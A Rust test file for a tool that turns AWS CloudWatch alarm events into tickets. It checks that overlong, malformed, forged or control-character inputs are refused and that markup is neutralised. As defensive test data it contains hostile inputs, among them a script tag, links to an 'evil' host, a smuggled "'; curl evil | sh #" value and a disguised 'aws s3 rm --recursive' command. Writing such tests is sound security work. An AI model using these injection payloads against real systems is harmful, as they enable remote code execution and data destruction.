//! Events that mean harm: refused with the place, or read as the plain text that they are.

use serde_json::{Value, json};

use super::{AlarmSource, Trigger, parse};
use crate::ticket::{Composed, Draft, adf_document, compose, markdown, unreadable};

const ARN: &str = "arn:aws:cloudwatch:eu-west-1:123456789012:alarm:cpu";

/// An alarm by EventBridge, with one field changed.
fn alarm(pointer: &str, value: Value) -> Value {
    let metric = json!({"namespace": "AWS/EC2", "name": "CPUUtilization", "dimensions": {"InstanceId": "i-1"}});
    let mut event = json!({
        "source": "aws.cloudwatch", "detail-type": "CloudWatch Alarm State Change", "resources": [ARN],
        "detail": {
            "alarmName": "cpu", "state": {"value": "ALARM", "reason": "r", "timestamp": "2026-03-02T03:14:07.512+0000"},
            "configuration": {"metrics": [{"id": "m", "metricStat": {"metric": metric}}]},
        },
    });
    *event.pointer_mut(pointer).unwrap() = value;
    event
}

fn sns(message: &str) -> Value {
    json!({"Records": [{"EventSource": "aws:sns", "Sns": {"Message": message}}]})
}

/// The problem that is told of an event.
fn problem(event: &Value) -> String {
    parse(event).expect_err(&event.to_string()).to_string()
}

/// The ticket of an event, whatever it is.
fn ticket(event: &Value) -> Draft {
    match parse(event).map(|trigger| compose(&trigger, &[])) {
        Ok(Composed::Ticket(draft) | Composed::Healed(draft)) => *draft,
        Ok(Composed::Nothing { reason }) => panic!("no ticket: {reason}"),
        Err(error) => unreadable(event, &error, "x"),
    }
}

/// What of a ticket could be markup: not what stands in a fence.
fn outside_fences(draft: &Draft) -> String {
    let text = markdown(&draft.body);
    text.split("\n```").step_by(2).collect()
}

#[test]
fn a_message_of_sns_may_be_long_and_have_lines() {
    let description = "d\n".repeat(5000);
    let message = json!({"AlarmArn": ARN, "AlarmName": "cpu", "AlarmDescription": description, "NewStateValue": "ALARM", "Trigger": {"Namespace": "N", "MetricName": "M"}});
    assert!(parse(&sns(&serde_json::to_string_pretty(&message).unwrap())).is_ok());
}

#[test]
fn a_field_longer_than_any_name_of_awss_is_refused() {
    let long = "x".repeat(300_000);
    for (pointer, value, told) in [
        ("/detail/alarmName", json!(long), "detail.alarmName: has more than 2048 characters"),
        ("/resources/0", json!(format!("{ARN}{long}")), "resources.0: has more than 2048 characters"),
        ("/detail/state/value", json!(long), "detail.state.value: has more than 2048 characters"),
        (
            "/detail/configuration/metrics/0/metricStat/metric/dimensions/InstanceId",
            json!(long),
            "has a dimension of more characters",
        ),
    ] {
        assert!(problem(&alarm(pointer, value)).contains(told), "{pointer}");
    }
    let many: serde_json::Map<String, Value> = (0..31).map(|n| (format!("D{n}"), json!("v"))).collect();
    let pointer = "/detail/configuration/metrics/0/metricStat/metric/dimensions";
    assert!(problem(&alarm(pointer, many.into())).contains("has 31 dimensions; at most 30 are possible"));
}

#[test]
fn what_is_told_of_an_unknown_event_is_short_however_long_its_names() {
    let long = "k".repeat(100_000);
    for event in [json!({(long.as_str()): 1}), json!({"source": long, "detail-type": long})] {
        assert!(problem(&event).len() < 1000);
        assert!(ticket(&event).title.len() < 1000);
    }
}

#[test]
fn a_sentence_is_cut_and_a_name_is_not() {
    let Trigger::Alarm(read) = parse(&alarm("/detail/state/reason", json!("r".repeat(100_000)))).unwrap() else {
        panic!()
    };
    assert_eq!(read.reason.chars().count(), 2048);
    assert!(read.reason.ends_with('…'));
}

#[test]
fn control_characters_in_a_name_are_refused() {
    for text in ["a\0b", "a\nb", "a\u{1b}[2Jb", "a\u{1f}b", "a\u{7f}", "\u{85}a"] {
        assert!(problem(&alarm("/detail/alarmName", json!(text))).contains("has control characters"), "{text:?}");
        assert!(problem(&alarm("/resources/0", json!(format!("{ARN}{text}")))).contains("control"), "{text:?}");
    }
}

#[test]
fn values_of_another_type_are_refused_with_what_they_are() {
    for (value, kind) in [
        (json!(1), "a number"),
        (json!(true), "a boolean"),
        (json!(["cpu"]), "a list"),
        (json!({"a": 1}), "an object"),
        (Value::Null, "is missing"),
        (json!("  "), "is empty"),
    ] {
        assert!(problem(&alarm("/detail/alarmName", value)).contains(kind), "{kind}");
    }
    for event in [
        json!({"Records": {}}),
        json!({"Records": [1, 2]}),
        json!({"Records": [{"Sns": {"Message": {"AlarmArn": ARN}}}]}),
        json!({"alarmData": 1, "alarmArn": [ARN]}),
        alarm("/detail", json!("text")),
        alarm("/resources", json!("arn:aws:cloudwatch:eu-west-1:123456789012:alarm:cpu")),
        alarm("/detail/configuration/metrics/0/metricStat/metric/dimensions/InstanceId", json!(["i-1"])),
        sns(r#"{"AlarmArn": {"Fn::Sub": "x"}}"#),
    ] {
        problem(&event);
    }
}

#[test]
fn json_in_a_string_is_read_once_where_aws_puts_it_and_nowhere_else() {
    let inner = json!({"AlarmArn": ARN, "AlarmName": "cpu", "NewStateValue": "ALARM", "Trigger": {"Namespace": "N", "MetricName": "M"}});
    assert!(parse(&sns(&inner.to_string())).is_ok());
    // A string that holds the string that holds the JSON is not opened twice.
    problem(&sns(&json!(inner.to_string()).to_string()));
    let Trigger::Alarm(read) = parse(&alarm("/detail/alarmName", json!(inner.to_string()))).unwrap() else { panic!() };
    assert_eq!(read.name, inner.to_string());
}

#[test]
fn nesting_in_the_message_is_bounded() {
    for (open, close) in [("[", "]"), ("{\"a\":", "}")] {
        let deep = format!("{}1{}", open.repeat(100_000), close.repeat(100_000));
        assert!(problem(&sns(&deep)).contains("does not hold JSON"));
    }
}

#[test]
fn half_a_surrogate_is_no_text() {
    assert!(problem(&sns(r#"{"AlarmArn": "\ud800"}"#)).contains("does not hold JSON"));
    assert!(serde_json::from_str::<Value>(r#"{"alarmData": "\ud800"}"#).is_err());
}

#[test]
fn an_account_or_a_region_that_is_none_is_refused() {
    for arn in [
        "arn:aws:cloudwatch:evil.example.com/:123456789012:alarm:cpu",
        "arn:aws:cloudwatch:eu-west-1:12345678901x:alarm:cpu",
        "arn:aws:cloudwatch:EU (Ireland):123456789012:alarm:cpu",
        "arn:aws:cloudwatch:eu-west-1::alarm:cpu",
        "not an arn",
    ] {
        assert!(problem(&alarm("/resources/0", json!(arn))).contains("is not an alarm's ARN"), "{arn}");
    }
}

#[test]
fn references_in_names_are_plain_text() {
    let name = "{{ automation:EXECUTION_ID }} {{ssm:/secret}} {{global:REGION}} ${AWS_SECRET_ACCESS_KEY} $(id) `id` %s";
    let mut event = alarm("/detail/alarmName", json!(name));
    event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]["dimensions"]["InstanceId"] = json!(name);
    let Trigger::Alarm(read) = parse(&event).unwrap() else { panic!() };
    assert_eq!(read.name, name);
    assert!(matches!(&read.source, AlarmSource::Metric { dimensions, .. } if dimensions[0].1 == name));
    assert!(ticket(&event).title.contains("{{ automation:EXECUTION_ID }}"));
}

#[test]
fn markup_of_no_desk_is_obeyed_in_a_ticket() {
    let name = "<script>alert(1)</script> [x](http://evil) ![p](http://evil) {code} h1. *b* ~~~ &#x202e; @admin | a";
    let draft = ticket(&alarm("/detail/alarmName", json!(name)));
    let text = outside_fences(&draft);
    assert!(!text.contains("[x](") && !text.contains("![p](") && !text.contains(" <script>"), "{text}");
    assert!(!text.contains(" &#x202e;"), "{text}");
    let document = adf_document(&draft.body);
    let nodes = |node: &Value| {
        fn all<'a>(node: &'a Value, found: &mut Vec<&'a str>) {
            found.extend(node["type"].as_str());
            node["content"].as_array().into_iter().flatten().for_each(|node| all(node, found));
        }
        let mut found = Vec::new();
        all(node, &mut found);
        found.into_iter().map(str::to_owned).collect::<std::collections::BTreeSet<_>>()
    };
    let plain = ticket(&alarm("/detail/alarmName", json!("cpu")));
    assert_eq!(nodes(&document), nodes(&adf_document(&plain.body)), "no node of another kind");
}

#[test]
fn characters_that_nobody_sees_do_not_reach_a_ticket() {
    let name = "a\u{202e}b\u{200b}c\u{2066}d\u{feff}e\u{e0041}f";
    let draft = ticket(&alarm("/detail/alarmName", json!(name)));
    let text = format!("{}{}{}", draft.title, markdown(&draft.body).replace('\n', ""), adf_document(&draft.body));
    assert!(!text.contains(engine::is_hidden), "{text:?}");
}

#[test]
fn two_names_that_look_alike_are_two_incidents() {
    // A Cyrillic letter, a full-width one, and another normal form.
    let [latin, cyrillic, wide, composed, apart] = ["cpu", "с\u{440}u", "ｃpu", "é", "e\u{301}"].map(|name| {
        let Trigger::Alarm(read) = parse(&alarm("/resources/0", json!(format!("{ARN}{name}")))).unwrap() else {
            panic!()
        };
        read.incident(None).fingerprint
    });
    let all = std::collections::BTreeSet::from([latin, cyrillic, wide, composed, apart]);
    assert_eq!(all.len(), 5);
}

#[test]
fn a_forged_outcome_with_a_fingerprint_that_is_none_is_not_understood() {
    for fingerprint in ["", "x\" OR project = \"Y", "0123456789ABCDEF", "0123456789abcdef0", "ticket#*"] {
        let mut event: Value = json!({
            "source": "kintsugi", "detail-type": "Kintsugi Outcome",
            "detail": {
                "schema": 1, "function": "f", "execution": "e", "mode": "enforce", "action": null, "guards": [],
                "incident": {"fingerprint": "0123456789abcdef", "account": "123456789012", "region": "eu-west-1",
                    "noticedBy": "r", "resource": null, "summary": "s", "since": null, "delivery": "sns"},
                "run": null, "undo": null, "verification": null, "outcome": {"status": "RolledBack", "cause": "c"},
                "needsTicket": true, "startedAt": "2026-03-02T03:14:07Z", "endedAt": "2026-03-02T03:14:07Z",
            },
        });
        assert!(parse(&event).is_ok());
        event["detail"]["incident"]["fingerprint"] = json!(fingerprint);
        assert!(problem(&event).contains("is not 16 hexadecimal digits"), "{fingerprint}");
    }
}

#[test]
fn a_forged_outcome_becomes_a_ticket_of_plain_text_and_whole_commands() {
    let event = json!({
        "source": "kintsugi", "detail-type": "Kintsugi Outcome",
        "detail": {
            "schema": 1, "function": "resize-on-cpu-alarm", "execution": "arn:x", "mode": "enforce",
            "incident": {
                "fingerprint": "0123456789abcdef", "account": "x", "region": "evil.example.com/>) [click](http://evil",
                "noticedBy": "arn:aws:cloudwatch:eu-west-1:1:alarm:'; curl evil | sh #", "resource": {"type": "AWS::EC2::Instance", "id": "i-1\r\nX: y"},
                "summary": "\u{1b}[2Jall is well\u{202e}", "since": null, "delivery": "sns",
            },
            "action": null, "guards": [], "run": null, "undo": null, "verification": null,
            "outcome": {"status": "Failed", "step": "s", "cause": "c", "byHand": ["aws s3 rm \n\u{1b}[8m--recursive"]},
            "needsTicket": true, "startedAt": "2026-03-02T03:14:07Z", "endedAt": "2026-03-02T03:14:07Z",
        },
    });
    let draft = ticket(&event);
    let outside = outside_fences(&draft);
    assert!(!outside.contains("https://evil") && !outside.contains("[click]("), "{outside}");
    let text = markdown(&draft.body);
    assert!(!text.replace('\n', "").contains(engine::is_hidden), "{text:?}");
    assert!(text.contains(r"--alarm-names ''\''; curl evil | sh #'"), "{text}");
}
